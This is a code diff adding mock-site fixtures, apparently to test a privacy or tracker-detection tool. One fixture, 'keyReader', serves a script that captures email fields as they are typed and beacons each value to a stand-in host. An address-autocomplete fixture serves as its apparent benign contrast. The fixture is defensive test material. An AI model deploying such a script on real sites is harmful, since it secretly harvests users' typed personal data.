@@ -71,6 +71,28 @@ addEventListener('message', function (event) {
   },
 }
 
+/** Every key: the value so far, letter by letter. */
+export const keyReader: Site = {
+  hosts: ['k.keyfollow.example'],
+  answer: ({ path }) =>
+    path.endsWith('.js')
+      ? script(`document.addEventListener('input', function (event) {
+  if (event.target.type === 'email') navigator.sendBeacon('https://k.keyfollow.example/k', JSON.stringify({ t: Date.now(), v: event.target.value }))
+}, true)`)
+      : { status: 204 },
+}
+
+/** Completes addresses while they are typed: it cannot work otherwise. */
+export const places: Site = {
+  hosts: ['api.streetfinder.example'],
+  answer: ({ path }) =>
+    path.endsWith('.js')
+      ? script(`document.addEventListener('input', function (event) {
+  if (event.target.name === 'street') fetch('https://api.streetfinder.example/suggest?text=' + encodeURIComponent(event.target.value))
+}, true)`)
+      : { type: 'application/json', body: '[]' },
+}
+
 /** A sign-up widget: its field stands in its own frame, and only its own server hears of it. */
 export const widget: Site = {
   hosts: ['forms.quietwidget.example'],
